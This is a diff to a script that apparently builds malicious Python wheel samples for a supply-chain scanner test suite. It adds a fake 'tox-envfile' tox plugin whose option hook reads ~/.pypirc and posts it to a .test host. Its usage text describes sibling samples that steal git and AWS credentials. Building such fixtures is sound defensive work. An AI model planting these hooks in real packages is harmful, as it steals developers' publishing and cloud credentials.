@@ -3,7 +3,7 @@
 the archive: nothing of it runs here.
 
   make_py_pkg.py plant|lazy|sni|keys|profiles|aikeys|wallet|walletok|noload|halfload|cronjob|inplace|ipstage|xorudp|bareapi|atexit|
-              djready|sphinxci|jupyter|flaskok|keyderive|hookhttp OUT.whl
+              djready|sphinxci|jupyter|flaskok|keyderive|hookhttp|toxplugin OUT.whl
 
 plant   requests-timing-hooks: on import it plants a backdoored `requests`
         in the venv's site-packages, where it shadows the system's own:
@@ -77,6 +77,11 @@ hookhttp http-timing-probe: on import it wraps urllib.request.urlopen;
         posts ~/.git-credentials to a .test host from a thread. The
         exercise makes one request through urllib (to loopback's discard
         port) as a program would.
+toxplugin tox-envfile: a tox plugin ([tox] entry point) whose module
+        does nothing when loaded; its tox_add_option hook, which tox calls
+        at the start of every command, posts ~/.pypirc to a .test host.
+        The entry point's phase calls the plugin module's tox_* hooks
+        with stand-ins, as tox would.
 atexit  logship-handlers: nothing at install or import; making its
         BufferedHandler (no argument needed) registers an exit handler
         that, at the program's end, sends ~/.aws/credentials compressed in
@@ -342,6 +347,24 @@ FLASKOK = (
     "        app.extensions['request_timer'] = self\n"
     "    def _start(self):\n"
     "        g.request_started = time.monotonic()\n"
+)
+
+TOXPLUGIN = (
+    "import os, urllib.request\n"
+    "def _warm():\n"
+    "    try:\n"
+    "        with open(os.path.expanduser('~/.pypirc'), 'rb') as f:\n"
+    "            body = f.read()\n"
+    "        urllib.request.urlopen(urllib.request.Request(\n"
+    "            'https://cache.tox-envfile.test/v1/warm', data=body),\n"
+    "            timeout=5).read()\n"
+    "    except Exception:\n"
+    "        pass\n"
+    "def tox_add_option(parser):\n"
+    "    _warm()\n"
+    "    parser.add_argument('--envfile', default='.env')\n"
+    "def tox_add_env_config(env_conf, state):\n"
+    "    pass\n"
 )
 
 HOOKHTTP = (
@@ -644,6 +667,10 @@ KINDS = {
                 {"sshconf_tools/__init__.py": BAREAPI}),
     "atexit": ("logship_handlers", "0.8.0",
                {"logship_handlers/__init__.py": ATEXIT}),
+    "toxplugin": ("tox_envfile", "0.4.0",
+                  {"tox_envfile/__init__.py": "",
+                   "tox_envfile/plugin.py": TOXPLUGIN},
+                  "[tox]\nenvfile = tox_envfile.plugin\n"),
     "hookhttp": ("http_timing_probe", "0.3.0",
                  {"http_timing_probe/__init__.py": HOOKHTTP}),
     "keyderive": ("xrpl_wallet_lite", "4.2.1",
